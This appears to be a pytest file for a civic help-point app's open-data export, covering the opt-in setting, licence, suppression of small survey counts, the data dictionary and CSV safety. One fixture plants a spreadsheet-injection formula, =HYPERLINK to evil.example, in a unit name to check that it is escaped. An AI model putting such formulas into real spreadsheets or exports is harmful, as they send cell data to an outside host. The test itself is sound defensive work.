"""Open data at a public address, on the scheme's choice, with licence and data dictionary;
CSV safe to open in a spreadsheet (docs/open-data.md)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import insert, update

from helppoint.store.tables import help_points
from helppoint.store.tables_public import survey_answers

PATHS = (
    "/open-data",
    "/open-data/activations.csv",
    "/open-data/survey.csv",
    "/open-data/data-dictionary.csv",
    "/open-data/datapackage.json",
)


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_nothing_is_published_unless_the_scheme_chooses(live_server: Any) -> None:
    http = httpx.Client(base_url=live_server.base_url, timeout=None)
    for path in PATHS:
        assert http.get(path).status_code == 404, path
    assert "does not publish open data" in http.get("/open-data").text
    assert 'href="/open-data"' not in http.get("/help-points").text


@pytest.fixture
def published(server_factory: Any) -> Any:
    server = server_factory(
        open_data_public=True, open_data_min_answers=3, open_data_publisher="Town Council"
    )
    last_month = datetime.now(UTC).replace(day=1, hour=12) - timedelta(days=10)
    with server.database.engine.begin() as connection:
        connection.execute(
            update(help_points)
            .where(help_points.c.id == "HP-02")
            .values(name='=HYPERLINK("https://evil.example/?"&A1,"x")')
        )
        for feeling in (5, 4, 2):
            connection.execute(
                insert(survey_answers).values(
                    unit_id="HP-01", zone_id="racecourse", hour=last_month, feeling=feeling
                )
            )
        connection.execute(
            insert(survey_answers).values(
                unit_id="HP-05", zone_id="town", hour=last_month, feeling=1
            )
        )
    server.month = last_month.strftime("%Y-%m")
    return server


def test_the_published_files_with_licence_and_dictionary(published: Any) -> None:
    http = httpx.Client(base_url=published.base_url, timeout=None)
    page = http.get("/open-data")
    assert page.status_code == 200
    assert "Town Council" in page.text and "Open Government Licence v3.0" in page.text
    assert 'href="https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/"' in (
        page.text
    )
    assert 'href="/open-data"' in http.get("/help-points").text  # the footer links to it
    survey = http.get("/open-data/survey.csv")
    assert survey.headers["content-type"] == "text/csv; charset=utf-8"
    assert survey.headers["access-control-allow-origin"] == "*"
    rows = {r["unit_id"]: r for r in _rows(survey.text)}
    assert rows["HP-01"]["month"] == published.month and rows["HP-01"]["answers"] == "3"
    assert rows["HP-01"]["suppressed"] == "false"
    assert float(rows["HP-01"]["mean"]) == pytest.approx(11 / 3, abs=1e-3)
    assert float(rows["HP-01"]["safe_low"]) < 2 / 3 < float(rows["HP-01"]["safe_high"])
    # One answer: published as a row with its figures left out.
    assert rows["HP-05"]["suppressed"] == "true" and rows["HP-05"]["answers"] == ""
    assert rows["HP-05"]["mean"] == ""
    activations = _rows(http.get("/open-data/activations.csv").text)
    assert len(activations) == 24 * 8  # every unit in each of the last 24 complete months
    assert activations[-1]["month"] == published.month
    # A formula in a unit's name is text in a spreadsheet.
    names = {r["unit_id"]: r["unit_name"] for r in activations}
    assert names["HP-02"].startswith("'=HYPERLINK(")
    # The dictionary describes exactly the columns of each file.
    dictionary = _rows(http.get("/open-data/data-dictionary.csv").text)
    for path, text in (("survey.csv", survey.text), ("activations.csv", None)):
        header = (text or http.get(f"/open-data/{path}").text).splitlines()[0].split(",")
        assert [d["column"] for d in dictionary if d["file"] == path] == header
        assert all(d["description"] for d in dictionary)
    package = http.get("/open-data/datapackage.json").json()
    assert package["licenses"][0]["title"] == "Open Government Licence v3.0"
    assert [r["path"] for r in package["resources"]] == [
        f"{published.base_url}/open-data/activations.csv",
        f"{published.base_url}/open-data/survey.csv",
    ]
    assert package["contributors"] == [{"title": "Town Council", "role": "publisher"}]


def test_the_open_data_page_in_polish(published: Any) -> None:
    http = httpx.Client(base_url=published.base_url, timeout=None)
    page = http.get("/open-data?lang=pl")
    assert "Słownik danych" in page.text and "Licencja" in page.text


def test_the_dictionary_knows_every_column_the_report_code_writes() -> None:
    from helppoint.services import open_data
    from helppoint.services.reports import OpenDataRow

    assert set(OpenDataRow.__dataclass_fields__) <= set(open_data.ACTIVATION_COLUMNS)
